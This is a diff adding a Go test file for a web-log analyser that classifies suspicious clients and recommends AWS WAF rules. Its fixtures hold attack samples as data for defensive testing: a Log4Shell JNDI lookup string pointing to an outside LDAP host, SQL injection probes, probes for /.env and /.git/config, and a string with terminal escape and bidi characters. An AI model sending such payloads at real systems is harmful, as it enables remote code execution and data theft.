@@ -1,0 +1,240 @@
+package analysis
+
+import (
+	"context"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/logsift/logsift/internal/evidence"
+)
+
+var offT0 = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)
+
+// offActor builds an actor from hits, with severity and categories as the
+// rules set them.
+func offActor(id string, requests int64, span time.Duration, hits ...evidence.Hit) evidence.Actor {
+	a := evidence.Actor{Actor: id, Requests: requests, FirstSeen: offT0, LastSeen: offT0.Add(span), Hits: hits}
+	for _, h := range hits {
+		a.Severity = max(a.Severity, h.Severity)
+		if !slices.Contains(a.Categories, h.Category) {
+			a.Categories = append(a.Categories, h.Category)
+		}
+	}
+	return a
+}
+
+func offHit(c evidence.Category, sev evidence.Severity, n int64, samples ...evidence.Sample) evidence.Hit {
+	return evidence.Hit{Rule: string(c), Category: c, Severity: sev, Count: n, Reason: fmt.Sprintf("%d requests", n), Samples: samples}
+}
+
+func offSample(target string, status int, ua string) evidence.Sample {
+	return evidence.Sample{Line: 7, Time: offT0, Method: "GET", Target: target, Status: status, UA: ua}
+}
+
+func offFixture() []evidence.Actor {
+	return []evidence.Actor{
+		offActor("203.0.113.10", 20, 10*time.Minute,
+			offHit(evidence.SensitiveFiles, evidence.Medium, 14,
+				offSample("/.env", 200, "x"), offSample("/.git/config", 404, "x"), offSample("/.env.production", 200, "x")),
+			offHit(evidence.Log4Shell, evidence.Critical, 1, offSample("/", 200, "${jndi:ldap://198.51.100.9/a}"))),
+		offActor("198.51.100.20", 13, 2*time.Minute,
+			offHit(evidence.SQLInjection, evidence.High, 12, offSample("/api/products?id=1%27", 500, "Mozilla"), offSample("/api/products?id=1 union select", 200, "Mozilla"))),
+		offActor("198.51.100.21", 12, time.Minute,
+			offHit(evidence.WordPressScan, evidence.Medium, 11, offSample("/wp-login.php", 404, "Mozilla"), offSample("/xmlrpc.php", 404, "Mozilla"))),
+		offActor("192.0.2.30", 1000, 5*time.Minute,
+			offHit(evidence.AggressiveCrawl, evidence.Low, 1000, offSample("/pricing", 200, "python-httpx/0.27"))),
+		offActor("2001:db8:1::/64", 60, 4*time.Minute,
+			offHit(evidence.BruteForce, evidence.High, 60, offSample("/api/login", 401, "python-requests"))),
+		{Actor: "81.102.46.34", Requests: 40}, // not suspicious
+	}
+}
+
+func TestOfflineClassify(t *testing.T) {
+	actors := offFixture()
+	res, err := Offline{}.Classify(context.Background(), actors, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res.Verdicts) != 5 {
+		t.Fatalf("%d verdicts, want one per suspicious actor (5)", len(res.Verdicts))
+	}
+	by := map[string]Verdict{}
+	for _, v := range res.Verdicts {
+		by[v.Actor] = v
+		if v.Source != "rules" || v.Confidence <= 0 || v.Confidence > 1 || v.Rationale == "" {
+			t.Errorf("verdict %+v", v)
+		}
+	}
+	if _, ok := by["81.102.46.34"]; ok {
+		t.Error("verdict for an actor no rule flagged")
+	}
+	v := by["203.0.113.10"]
+	if v.Severity != evidence.Critical {
+		t.Errorf("severity %s, want the rules' max (critical)", v.Severity)
+	}
+	if !slices.Contains(v.Categories, evidence.Log4Shell) || !slices.Contains(v.Categories, evidence.SensitiveFiles) || v.Categories[0] != evidence.Log4Shell {
+		t.Errorf("categories %v", v.Categories)
+	}
+	for _, want := range []string{"14 sensitive files", "/.env", "answered 2xx", "Log4Shell", "User-Agent"} {
+		if !strings.Contains(v.Rationale, want) {
+			t.Errorf("rationale %q lacks %q", v.Rationale, want)
+		}
+	}
+	// A 2xx on a sensitive file raises a medium finding to high.
+	exposed := offActor("192.0.2.1", 3, 0, offHit(evidence.SensitiveFiles, evidence.Medium, 3, offSample("/.env", 200, "")))
+	quiet := offActor("192.0.2.2", 3, 0, offHit(evidence.SensitiveFiles, evidence.Medium, 3, offSample("/.env", 404, "")))
+	if got := OfflineVerdict(&exposed).Severity; got != evidence.High {
+		t.Errorf("exposed: severity %s, want high", got)
+	}
+	if got := OfflineVerdict(&quiet).Severity; got != evidence.Medium {
+		t.Errorf("not exposed: severity %s, want medium", got)
+	}
+	// More and more varied evidence gives more confidence.
+	if strong, weak := by["203.0.113.10"].Confidence, OfflineVerdict(&quiet).Confidence; strong <= weak {
+		t.Errorf("confidence strong %v <= weak %v", strong, weak)
+	}
+}
+
+func TestOfflineRationaleHostile(t *testing.T) {
+	a := offActor("192.0.2.9", 5, 0, offHit(evidence.SensitiveFiles, evidence.Medium, 5,
+		offSample("/.env\x1b[31m\u202e"+strings.Repeat("A", 5000), 404, "")))
+	v := OfflineVerdict(&a)
+	if strings.ContainsAny(v.Rationale, "\x1b\u202e") {
+		t.Errorf("control or bidi characters reached the rationale: %q", v.Rationale)
+	}
+	if len(v.Rationale) > MaxRationaleLen {
+		t.Errorf("rationale is %d bytes", len(v.Rationale))
+	}
+}
+
+func TestOfflineObservations(t *testing.T) {
+	c := evidence.Campaign{Kind: "shared-user-agent", Key: "Odd/1.0", Actors: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4", "192.0.2.5"},
+		Categories: []evidence.Category{evidence.SensitiveFiles}, Requests: 20, Severity: evidence.Medium}
+	res, err := Offline{}.Classify(context.Background(), nil, []evidence.Campaign{c})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res.Observations) != 1 || len(res.Observations[0].Actors) != 5 || !strings.Contains(res.Observations[0].Summary, "Odd/1.0") {
+		t.Fatalf("observations %+v", res.Observations)
+	}
+}
+
+func offRecommend(t *testing.T, format string, actors []evidence.Actor) []Recommendation {
+	t.Helper()
+	res, err := Offline{Format: format}.Recommend(context.Background(), RecommendInput{Actors: actors})
+	if err != nil {
+		t.Fatal(err)
+	}
+	known := map[string]bool{}
+	for _, a := range actors {
+		known[a.Actor] = true
+	}
+	kinds := []string{ActionWAFIPSet, ActionWAFManaged, ActionWAFRateBased, ActionWAFCustom, ActionApp, ActionServer}
+	for i, r := range res.Recommendations {
+		if r.Priority != i+1 {
+			t.Errorf("recommendation %d has priority %d", i, r.Priority)
+		}
+		if !slices.Contains(kinds, r.Kind) || r.Title == "" || r.Detail == "" || r.Source != "rules" {
+			t.Errorf("recommendation %+v", r)
+		}
+		for _, a := range r.Actors {
+			if !known[a] {
+				t.Errorf("%q names actor %s that is not in the input", r.Title, a)
+			}
+		}
+		for _, c := range r.Categories {
+			if !c.Valid() {
+				t.Errorf("%q: category %q", r.Title, c)
+			}
+		}
+	}
+	return res.Recommendations
+}
+
+func offFind(recs []Recommendation, sub string) *Recommendation {
+	for i := range recs {
+		if strings.Contains(recs[i].Title, sub) {
+			return &recs[i]
+		}
+	}
+	return nil
+}
+
+func TestOfflineRecommend(t *testing.T) {
+	recs := offRecommend(t, "amplify", offFixture())
+	if !strings.Contains(recs[0].Title, "Rotate") || !strings.Contains(recs[0].Detail, "/.env") {
+		t.Errorf("first recommendation %q, want rotating what /.env exposed", recs[0].Title)
+	}
+	for _, group := range []string{"AWSManagedRulesKnownBadInputsRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesBotControlRuleSet"} {
+		if offFind(recs, group) == nil {
+			t.Errorf("no recommendation for %s", group)
+		}
+	}
+	// WordPress paths all failed: the site is not WordPress, so no WordPress
+	// rule group, but a path rule that blocks them.
+	if offFind(recs, "AWSManagedRulesWordPressRuleSet") != nil {
+		t.Error("recommended the WordPress rule group for a site that is not WordPress")
+	}
+	custom := offFind(recs, "custom rule")
+	if custom == nil || !strings.Contains(custom.Detail, "/wp-login.php") || !strings.Contains(custom.Detail, "/.env") {
+		t.Fatalf("path rule: %+v", custom)
+	}
+	ipset := offFind(recs, "IP set")
+	if ipset == nil || slices.Contains(ipset.Actors, "192.0.2.30") || !slices.Contains(ipset.Actors, "203.0.113.10") {
+		t.Fatalf("IP set should list medium+ actors only: %+v", ipset)
+	}
+	if !strings.Contains(ipset.Detail, "Amplify") {
+		t.Error("Amplify: the IP set advice does not say how WAF attaches to Amplify")
+	}
+	// 1000 requests in 5 minutes: half of it, rounded down to a nice number.
+	if rate := offFind(recs, "rate-based rule"); rate == nil || !strings.Contains(rate.Title, "500 requests per 5 minutes") {
+		t.Errorf("rate-based rule: %+v", rate)
+	}
+	login := offFind(recs, "login endpoint")
+	if login == nil || !strings.Contains(login.Detail, "/api/login") || !slices.Equal(login.Actors, []string{"2001:db8:1::/64"}) {
+		t.Errorf("login rate limit: %+v", login)
+	}
+	if fix := offFind(recs, "5xx to SQL injection"); fix == nil || !strings.Contains(fix.Detail, "/api/products") {
+		t.Errorf("no fix for the handler that failed on SQL injection: %+v", fix)
+	}
+	sqli := offFind(recs, "SQLiRuleSet")
+	if sqli == nil || !slices.Equal(sqli.Actors, []string{"198.51.100.20"}) || !slices.Equal(sqli.Categories, []evidence.Category{evidence.SQLInjection}) {
+		t.Errorf("SQLi rule group should address the SQLi actor: %+v", sqli)
+	}
+}
+
+func TestOfflineRecommendOnlyWhatWasSeen(t *testing.T) {
+	recs := offRecommend(t, "combined", []evidence.Actor{
+		offActor("192.0.2.7", 40, time.Minute, offHit(evidence.WordPressScan, evidence.Medium, 40,
+			offSample("/wp-login.php", 200, "Mozilla"), offSample("/wp-admin/", 302, "Mozilla"))),
+	})
+	for _, absent := range []string{"Rotate", "SQLi", "KnownBadInputs", "Bot Control", "Amplify", "login endpoint"} {
+		if r := offFind(recs, absent); r != nil {
+			t.Errorf("recommended %q without evidence for it", r.Title)
+		}
+	}
+	// wp-login.php answered 200: this may be a WordPress site.
+	if offFind(recs, "AWSManagedRulesWordPressRuleSet") == nil {
+		t.Error("WordPress answered 2xx but the WordPress rule group was not recommended")
+	}
+	if r := offFind(recs, "custom rule"); r != nil && strings.Contains(r.Detail, "wp-") {
+		t.Errorf("path rule would block the site's own WordPress: %s", r.Detail)
+	}
+	if recs := offRecommend(t, "", nil); len(recs) != 0 {
+		t.Errorf("no findings, %d recommendations", len(recs))
+	}
+}
+
+func TestOfflineCanceled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	if _, err := (Offline{}).Classify(ctx, offFixture(), nil); err == nil {
+		t.Error("Classify ignored a canceled context")
+	}
+	if _, err := (Offline{}).Recommend(ctx, RecommendInput{}); err == nil {
+		t.Error("Recommend ignored a canceled context")
+	}
+}
